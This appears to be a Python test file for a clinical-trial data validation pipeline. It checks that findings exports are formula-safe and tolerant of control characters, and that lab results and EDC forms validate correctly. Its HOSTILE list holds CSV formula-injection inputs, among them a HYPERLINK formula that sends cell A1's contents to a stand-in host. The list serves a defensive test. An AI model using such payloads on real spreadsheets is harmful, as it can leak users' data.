"""Issue #10 on the validation side: exports people open are formula-safe and never fail on control
characters; huge results convert; partial history dates are legal; the EDC's values reach the
listing as text."""
import csv

import openpyxl
import pandas as pd
from openpyxl.utils.escape import unescape

from aclf.units import convert, harmonize_results
from aclf.config import load_study
from validation.export import write_findings
from validation.listing import HEADER_ROW
from validation.schemas import failures, form_schema

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def findings_with(messages: list[str]) -> pd.DataFrame:
    n = len(messages)
    return pd.DataFrame({
        "finding_id": [f"F{i:04d}" for i in range(n)], "rule": "quarantined_row", "family": "ingestion",
        "severity": "high", "site_id": "01", "subjid": "01-007", "visit": "", "test": "",
        "source": "edc", "file": "EDC_20250601/adverse_events.csv", "row_number": range(2, n + 2),
        "message": messages, "first_seen": "2025-06-01", "last_seen": "2025-06-01", "status": "open",
        "closed_at": None})


def test_exports_neutralise_formulas_and_open_in_excel_as_utf8(tmp_path):
    written = write_findings(findings_with([*HOSTILE, "发热 fever"]), tmp_path, load_study(), "2025-06-01")
    raw = written["csv"].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")                                       # UTF-8 with BOM
    with written["csv"].open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["message"] for r in rows[:len(HOSTILE)]] == ["'" + v for v in HOSTILE]
    assert rows[-1]["message"] == "发热 fever" and len(rows) == len(HOSTILE) + 1
    sheet = openpyxl.load_workbook(written["site01"]).active
    header = [c.value for c in sheet[HEADER_ROW]]
    column = header.index("Details") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(HEADER_ROW + 1, sheet.max_row + 1)]
    assert all(c.data_type == "s" for c in cells)                                 # no formula cell at all
    # a control character is stored escaped (_x000D_ for CR), which Excel reads back as the character
    values = [unescape(c.value) for c in cells]
    assert set(values) >= set(HOSTILE)
    assert all(c.quotePrefix for c, value in zip(cells, values) if value in HOSTILE)


def test_nul_and_control_characters_do_not_stop_the_listing(tmp_path):
    written = write_findings(findings_with(["value a\x00b", "bell\x07"]), tmp_path, load_study(), "2025-06-01")
    sheet = openpyxl.load_workbook(written["site01"]).active
    values = [c.value for c in sheet["I"][HEADER_ROW:]]
    assert "value a\ufffdb" in values and "bell\ufffd" in values
    assert "a\x00b" in written["csv"].read_text(encoding="utf-8-sig")


def test_a_31_digit_or_1e308_result_converts_or_becomes_a_finding_never_a_crash(study):
    assert str(convert("1234567890123456789012345678901", "1", 1)) == "1234567890123456789012345678901.0"
    staged = pd.DataFrame({"lbtestcd": ["BILI", "ALB", "BILI"], "unit": ["umol/L", "g/dL", "umol/L"], "comment": "",
                           "result": ["1234567890123456789012345678901", "9" * 309, "1e+308"],
                           "ref_low": "", "ref_high": "", "ref_range": ""})
    out = harmonize_results(staged, study.lab)
    assert list(out["result_kind"]) == ["number", "number", "unknown_text"]
    assert out["lbstresn"].iloc[0] > 1e28 and pd.isna(out["lbstresn"].iloc[1])   # beyond a float: no number
    assert out["lbstresc"].iloc[1] == "9" * 309 + "0"                             # but the exact text is kept


def test_an_spss_1e308_is_read_as_its_text_not_a_309_digit_integer():
    from aclf.readers import as_text

    assert (as_text(1e308), as_text(2.0 ** 53), as_text(312.0)) == ("1e+308", "9007199254740992.0", "312")


def test_a_workbook_1e308_given_as_an_int_is_read_as_its_text_too():
    """openpyxl gives a workbook's whole number as an int, which skipped the float's guard: 1e308
    became a 309-digit LBORRES that refused the SDTM package (found by a hostile-input probe)."""
    from aclf.readers import as_text

    assert (as_text(int(1e308)), as_text(-(2 ** 53)), as_text(2 ** 53 - 1), as_text(True)) == (
        "1e+308", "-9007199254740992.0", "9007199254740991", "True")


def test_a_partial_aclf_onset_date_is_no_schema_finding(study):
    _, spec = study.form("medical_history")
    frame = pd.DataFrame({"SUBJID": ["01-007", "01-008", "01-009"], "ETIOLOGY": "HBV", "CIRRHOSIS": "Y",
                          "ACLF_ONSET_DATE": ["2023-10", "2023", "2023-10-32"], "PRIOR_PLT": "96", "PRIOR_CTP": "7"})
    cases = failures(form_schema("medical_history", spec), frame)
    assert list(cases["failure_case"]) == ["2023-10-32"]                          # an impossible date still is


def test_an_empty_value_edc_md_requires_is_a_schema_finding_one_it_allows_is_not(study):
    """'' passes a coded column's set, but not where edc.md gives no room for a missing value (an
    infusion with no DONE would read as not given); an optional one (PRIOR_PLT) stays silent."""
    _, spec = study.form("medical_history")
    frame = pd.DataFrame({"SUBJID": ["01-007", "01-008"], "ETIOLOGY": ["HBV", ""], "CIRRHOSIS": ["", "Y"],
                          "ACLF_ONSET_DATE": "", "PRIOR_PLT": "", "PRIOR_CTP": ""})
    cases = failures(form_schema("medical_history", spec), frame)
    assert sorted(zip(cases["column"], cases["check"], cases["index"])) == [
        ("CIRRHOSIS", "not_empty", 0), ("ETIOLOGY", "not_empty", 1)]
    _, spec = study.form("infusion")
    frame = pd.DataFrame({"SUBJID": ["01-007"], "VISIT": ["WEEK0"], "INF_START": "", "INF_END": "", "KIT_NO": "",
                          "VOLUME_ML": "", "DONE": [""], "NOT_DONE_REASON": ""})
    assert failures(form_schema("infusion", spec), frame)[["column", "check"]].values.tolist() == [["DONE", "not_empty"]]


def test_a_schema_reads_its_frame_and_leaves_it_as_it_was(study):
    """The schemas validate in place (no copy): nothing may be coerced, filled or added."""
    from validation.schemas import harmonized_lab_schema

    _, spec = study.form("medical_history")
    form = pd.DataFrame({"SUBJID": ["01-007", "1-8"], "ETIOLOGY": ["HBV", "XYZ"], "CIRRHOSIS": "Y",
                         "ACLF_ONSET_DATE": ["2023-10", "2023-13"], "PRIOR_PLT": ["96", "x"], "PRIOR_CTP": "7"})
    lab = pd.DataFrame({"record_key": ["k1", "k1"], "subjid": ["01-001", "bad"], "lbtestcd": ["BILI", "NOPE"],
                        "lbdtc": ["2025-01-01", "01/01/2025"], "lbdy": pd.array([1.0, 0.0], dtype="Float64"),
                        "avisit": ["", "NOPE"], "lbstresn": [1e9, float("nan")], "lbstresu": ["mg/dL", "x"],
                        "lbstat": ["", "?"], "result_kind": ["number", "number"], "lbnrind": ["", "?"],
                        "unit_status": ["ok", "ok"]})
    for schema, frame in ((form_schema("medical_history", spec), form), (harmonized_lab_schema(study), lab)):
        before = frame.copy()
        assert len(failures(schema, frame)) >= 4
        pd.testing.assert_frame_equal(frame, before)


def test_dates_of_an_empty_or_all_missing_column_raise_no_pandas_warning():
    import warnings

    from aclf.isodate import date_part, valid_iso

    with warnings.catch_warnings():
        warnings.simplefilter("error")                       # pandas 4 turns this warning into an error
        assert date_part(pd.Series([float("nan")])).isna().all()
        assert valid_iso(pd.Series([], dtype=float)).empty
